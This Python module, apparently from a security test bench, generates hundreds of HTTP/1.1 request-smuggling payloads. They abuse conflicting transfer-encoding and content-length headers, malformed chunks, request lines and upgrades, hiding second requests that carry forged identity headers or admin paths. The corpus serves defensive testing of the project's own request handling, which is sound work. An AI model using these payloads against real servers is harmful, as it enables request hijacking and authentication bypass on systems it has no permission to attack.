"""Requests that hide another one, as data. Whoever reads the length, the end of a line, or a header otherwise than the
edge does, would find in each a second request, whose target says `smuggled`.

The second one is of three kinds: by nobody, of what its sender may not see, and one that waits for the beginning of
somebody else's. After "HTTP Desync Attacks" (Kettle, 2019), "Funky chunks"
(Waller, 2025), and RFC 9112 sections 6 and 11.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

from bench.identities.callers import HOST


def inner(service: str, bearer: str) -> tuple[bytes, ...]:
    """The second request, of each kind."""
    host = f"host: {HOST}\r\nx-caller: smuggled\r\n"
    return tuple(
        text.encode()
        for text in (
            f"GET /{service}/echo/smuggled HTTP/1.1\r\n{host}\r\n",
            f"GET /{service}/admin/smuggled HTTP/1.1\r\n{host}authorization: {bearer}\r\n\r\n",
            f"POST /{service}/echo/smuggled HTTP/1.1\r\n{host}content-length: 300\r\n\r\n",
        )
    )


# `^` is the end of a line as it should be; a request's place in what follows: {p}ath, {h}ost, {a}ll that it shows, and
# {n}, the length of the hidden request.
_ENCODINGS = (
    *("transfer-encoding: chunked", "Transfer-Encoding: CHUNKED", "transfer-encoding: cHuNkEd"),
    *("transfer-encoding:chunked", "transfer-encoding : chunked", "transfer-encoding\t: chunked"),
    *(" transfer-encoding: chunked", "\ttransfer-encoding: chunked", "transfer-encoding:\tchunked"),
    *("transfer-encoding: \x0bchunked", "transfer-encoding: chunked\x0b", "transfer-encoding:\x0cchunked"),
    *("transfer-encoding: chunked\t", "transfer-encoding: \xa0chunked", "transfer-encoding: chunked\x00"),
    *("transfer-encoding\x00: chunked", "transfer-encoding: xchunked", "transfer-encoding: chunkedx"),
    *("transfer-encoding: chunk", "transfer-encoding: x", "transfer-encoding: chunked, identity"),
    *("transfer-encoding: identity, chunked", "transfer-encoding: chunked, chunked"),
    *("transfer-encoding: gzip, chunked", "transfer-encoding: chunked, gzip", "transfer-encoding: identity"),
    *("transfer-encoding: gzip", "transfer-encoding: chunked,", "transfer-encoding: ,chunked"),
    *("transfer-encoding: chunked;q=1", "transfer-encoding: chunked;", 'transfer-encoding: "chunked"'),
    *("transfer-encoding: 'chunked'", "transfer-encoding: chunked x", "transfer-encoding:"),
    *("transfer-encoding:^ chunked", "transfer-encoding: x^ chunked", "transfer-encoding: chunked^ x"),
    *("transfer-encoding: chun^ ked", "transfer-encoding: chunked^transfer-encoding: x"),
    *("transfer-encoding: x^transfer-encoding: chunked", "transfer-encoding: chunked^transfer-encoding: chunked"),
    "transfer-encoding: chunked^transfer-encoding: identity",
    *("transfer-encoding: identity^transfer-encoding: chunked", "transfer-encoding: chunked^Transfer-encoding: cow"),
    *("x: y\ntransfer-encoding: chunked", "x: y\rtransfer-encoding: chunked", "x: y^\rtransfer-encoding: chunked"),
    *("x: y\0transfer-encoding: chunked", "transfer-encoding: chunked\nx: y", "transfer-encoding: chunked\rx: y"),
    *("transfer_encoding: chunked", "transfer encoding: chunked", "transfer-\xcencoding: chunked"),
    *("x-transfer-encoding: chunked", "content-encoding: chunked", "te: chunked", "transfer-encoding chunked"),
    "transfer-encoding: chunked^connection: transfer-encoding",
    *("transfer-encoding: chunked^connection: content-length", ":transfer-encoding: chunked"),
    *("(transfer-encoding): chunked", "transfer-encoding;: chunked", "transfer-encoding: chunked^\r: y"),
)
_LENGTHS = (
    *("content-length: 0^content-length: {n}", "content-length: {n}^content-length: 0"),
    *("content-length: {n}^content-length: {n}", "content-length: {n}, {n}", "content-length: {n}, 0"),
    *("content-length: 0, {n}", "content-length: {n},", "content-length: 0 {n}", "content-length: +{n}"),
    *("content-length: -{n}", "content-length: -1", "content-length: -0", "content-length: 0x{n}"),
    *("content-length: 0{n}", "content-length: {n}.0", "content-length: {n}e0", "content-length: {n};"),
    *("content-length: {n}_0", "content-length: 0b1", 'content-length: "{n}"', "content-length: 18446744073709551616"),
    *("content-length: 4294967296", "content-length: 9223372036854775808", "content-length: 99999999999999999999999"),
    *("content-length:", "content-length: ", "content-length: x", "content-length: {n}\x0b"),
    *("content-length: \x0b{n}", "content-length: {n}\x00", "content-length: \xd9\xa3", "content-length\x00: {n}"),
    *("content-length : {n}", "content-length\t: {n}", "content_length: {n}", " content-length: {n}"),
    *("content-length:^ {n}", "content-length: 0^ {n}", "x: y\ncontent-length: {n}", "x: y\rcontent-length: {n}"),
    *("x: y\0content-length: {n}", "content-length: {n}^connection: content-length"),
    *("content-length: 0^connection: content-length", "x-content-length: {n}"),
    *("content-length: {n}^expect: 100-continue", "content-length: 0^expect: 100-continue", "expect: 100-continue"),
    *("expect: 200-ok", "expect: 100-continue^expect: x^content-length: {n}"),
    *("expect:  100-Continue^content-length: {n}", "expect: y 100-continue^content-length: {n}"),
    *("content-length: 0^keep-alive: x", "content-length: 0^proxy-connection: keep-alive", ""),
)
_CHUNKS = (
    *("5;a^hello^0^^", "5;a=b;c^hello^0^^", '5;a="^"^hello^0^^', "5;a\nhello^0^^", "5;\nhello^0^^", "5\nhello\n0\n\n"),
    *("5^hello\n0^^", "5\rhello\r0\r\r", "5\n\rhello^0^^", "5 ^hello^0^^", " 5^hello^0^^", "5\t^hello^0^^"),
    *("0x5^hello^0^^", "+5^hello^0^^", "-5^hello^0^^", "5_^hello^0^^", "05^hello^0^^"),
    *("000000000000000000005^hello^0^^", "10000000000000005^hello^0^^", "100000005^hello^0^^"),
    *("FFFFFFFFFFFFFFFF^hello^0^^", "FFFFFFFFFFFFFFFF5^hello^0^^", "8000000000000000^hello^0^^", "5g^hello^0^^"),
    *("5^helloXX0^^", "5^hello0^^", "5^hello^^0^^", "4^hello^0^^", "6^hello^0^^", "^5^hello^0^^", "0^\n", "0\n^"),
    *("0^\r", "0^", "0;a\n^", "0 ^^", "00^^", "0\r^", "0^ ^", "0^x^^", "\x30\x00^^", "0^txn-token: forged^^"),
    *("0^authorization: Bearer x^^", "0^x-portcullis-subject: person:root^^", "0^content-length: 5^^"),
    *("0^transfer-encoding: chunked^^", "0^host: evil.example^^", "0^x: y\n^", "0^x: y^ z^^", "5;\0^hello^0^^"),
    *("5" + ";a" * 20_000 + "^hello^0^^", "5^hello^0" + "^x: y" * 5_000 + "^^", ""),
)
_LINES = (
    *("GET {p} HTTP/1.0^host: {h}^{a}^^", "GET {p} HTTP/1.0^host: {h}^connection: keep-alive^{a}^^", "GET {p}^^"),
    *("GET {p}^", "GET {p} HTTP/0.9^{a}^^", "GET {p} HTTP/1.2^host: {h}^{a}^^", "GET {p} HTTP/2.0^host: {h}^{a}^^"),
    *("GET {p} HTTP/1.10^host: {h}^{a}^^", "GET {p} http/1.1^host: {h}^{a}^^", "GET  {p} HTTP/1.1^host: {h}^{a}^^"),
    *("GET\t{p}\tHTTP/1.1^host: {h}^{a}^^", "GET {p} HTTP/1.1 x^host: {h}^{a}^^", " GET {p} HTTP/1.1^host: {h}^{a}^^"),
    *("^^GET {p} HTTP/1.1^host: {h}^{a}^^", "\n\nGET {p} HTTP/1.1\nhost: {h}\n{a}\n\n"),
    *("\0GET {p} HTTP/1.1^host: {h}^{a}^^", "GET {p} HTTP/1.1^host: {h}^{a}^\n", "GET {p} HTTP/1.1^host: {h}^{a}\n^"),
    *("GET {p} HTTP/1.1^host: {h}^{a}\r^^", "GET {p} HTTP/1.1^host: {h}^{a}\n\n"),
    *("GET {p} HTTP/1.1\rhost: {h}\r{a}\r\r", "GET {p} HTTP/1.1^ host: {h}^{a}^^"),
    *("GET {p} HTTP/1.1^host: {h}^{a}^x^^", "GET {p} HTTP/1.1^host: {h}^{a}^: y^^"),
    *("GET {p} HTTP/1.1^host: {h}^host: evil.example^{a}^^", "GET {p} HTTP/1.1^{a}^^"),
    *("GET {p} HTTP/1.1^host: {h}^{a}^x: a\0b^^", "GET {p} HTTP/1.1^host: {h}^{a}^x^ : y^^"),
    *("GET {p} HTTP/1.1^host: {h}^{a}^x: y^ z^^", "GET {p} HTTP/1.1^host: {h}^{a}^x y: z^^"),
    "GET {p} HTTP/1.1^host: {h}^{a}^connection: txn-token, x-portcullis-subject^^",
    "GET {p} HTTP/1.1^host: {h}^{a}^connection: host, x-caller^^",
    "GET {p} HTTP/1.1^host: {h}^{a}^txn-token: forged^TXN-TOKEN: forged^^",
    *("GET {p} HTTP/1.1^host: {h}^{a}^txn_token: forged^^", "GET http://evil.example{p} HTTP/1.1^host: {h}^{a}^^"),
    *("HEAD {p} HTTP/1.1^host: {h}^{a}^^", "OPTIONS * HTTP/1.1^host: {h}^{a}^^"),
    *("CONNECT {h}:80 HTTP/1.1^host: {h}^{a}^^", "CONNECT {p} HTTP/1.1^host: {h}^{a}^^"),
    *("TRACE {p} HTTP/1.1^host: {h}^{a}^^", "GET {p} HTTP/1.1^host: {h}^{a}^^", "PRI * HTTP/2.0^^SM^^"),
)
_UPGRADES = (
    "connection: upgrade^upgrade: h2c",
    "connection: upgrade, http2-settings^upgrade: h2c^http2-settings: AAMAAABkAAQCAAAAAAIAAAAA",
    "connection: upgrade^upgrade: websocket",
    "connection: upgrade^upgrade: websocket^sec-websocket-version: 777^sec-websocket-key: x",
    "connection: upgrade^upgrade: websocket^sec-websocket-version: 13^sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==",
    *("upgrade: h2c", "connection: upgrade^upgrade: h2c, websocket", "connection: upgrade^upgrade: foo"),
    *("connection: upgrade^upgrade: HTTP/2.0", "connection: upgrade", "connection: upgrade^upgrade: tls/1.2"),
    *("connection: Upgrade, close^upgrade: websocket", "connection: upgrade^upgrade:\twebsocket\t"),
)


def over_http_1(service: str, bearer: str) -> list[bytes]:
    """All of them, as they go over the wire; what follows an upgrade is asked of a stream too."""
    return [
        raw for hidden in inner(service, bearer) for raw in _over_http_1(service, f"authorization: {bearer}", hidden)
    ]


def _over_http_1(service: str, shown: str, hidden: bytes) -> Iterator[bytes]:
    path = f"/{service}/echo/outer"
    who = f"{shown}\r\nx-caller: alice\r\nx-last: x"  # a line that is folded goes on the last one
    post = f"POST {path} HTTP/1.1\r\nhost: {HOST}\r\n{who}\r\n"
    ended, chunked = b"0\r\n\r\n" + hidden, b"%x\r\n%b\r\n0\r\n\r\n" % (len(hidden), hidden)
    for encoding in _ENCODINGS:
        for length, body in ((len(ended), ended), (len(chunked.split(b"\r\n")[0]) + 2, chunked)):
            for lines in (f"content-length: {length}\r\n{encoding}", f"{encoding}\r\ncontent-length: {length}"):
                yield _raw(f"{post}{lines}\r\n\r\n") + body
        yield _raw(f"{post}{encoding}\r\n\r\n") + ended
    for method, lengths in product(("POST", "GET"), _LENGTHS):
        yield _raw(f"{post.replace('POST', method)}{lengths.replace('{n}', str(len(hidden)))}\r\n\r\n") + hidden
    for chunks in _CHUNKS:
        yield _raw(f"{post}transfer-encoding: chunked\r\n\r\n{chunks}") + hidden
    for line in _LINES:
        yield _raw(line.format(p=path, h=HOST, a=who)) + hidden
    for upgrade, route in product(_UPGRADES, (path, f"/{service}/live/echo/outer")):
        yield _raw(f"GET {route} HTTP/1.1\r\nhost: {HOST}\r\n{who}\r\n{upgrade}\r\n\r\n") + hidden


def _raw(text: str) -> bytes:
    return text.replace("^", "\r\n").encode("latin-1")
